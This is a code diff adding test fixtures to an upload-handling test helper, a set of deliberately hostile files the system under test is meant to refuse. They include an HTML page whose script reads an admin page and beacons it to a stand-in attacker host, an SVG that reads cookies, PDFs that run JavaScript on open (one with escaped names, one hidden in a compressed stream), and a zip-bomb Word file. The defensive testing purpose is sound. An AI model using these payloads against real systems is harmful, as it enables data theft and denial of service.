@@ -45,3 +45,32 @@ export function fixtureFile(name: string, content: Buffer): string {
   fs.writeFileSync(file, content);
   return file;
 }
+
+/** Files that attack whoever opens them; each must be refused or stored inert (docs/security.md). */
+export const ATTACKS = {
+  html: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/admin/users").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>'),
+  svg: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script><rect width="1" height="1"/></svg>'),
+  /** A PDF whose catalogue runs JavaScript when opened. */
+  pdfScript: Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
+  /** The same, with the name written in #xx escapes (/J#61vaScript is /JavaScript). */
+  pdfEscaped: Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
+  /** The script hidden in a compressed object stream, where the raw bytes do not show it. */
+  pdfHidden: (() => {
+    // eslint-disable-next-line @typescript-eslint/no-require-imports
+    const packed: Buffer = require('zlib').deflateSync(Buffer.from('2 0 <</S/JavaScript/JS(app.alert(1))>>'));
+    return Buffer.concat([
+      Buffer.from(`%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
+      packed,
+      Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
+    ]);
+  })(),
+};
+
+/** A .docx whose one part inflates to `megabytes` of zeros: a zip bomb that looks like Word. */
+export async function zipBombDocx(megabytes = 200): Promise<Buffer> {
+  // eslint-disable-next-line @typescript-eslint/no-require-imports
+  const JSZip = require('jszip');
+  const zip = await JSZip.loadAsync(await docx());
+  zip.file('word/media/bomb.bin', Buffer.alloc(megabytes * 1024 * 1024, 0));
+  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
+}
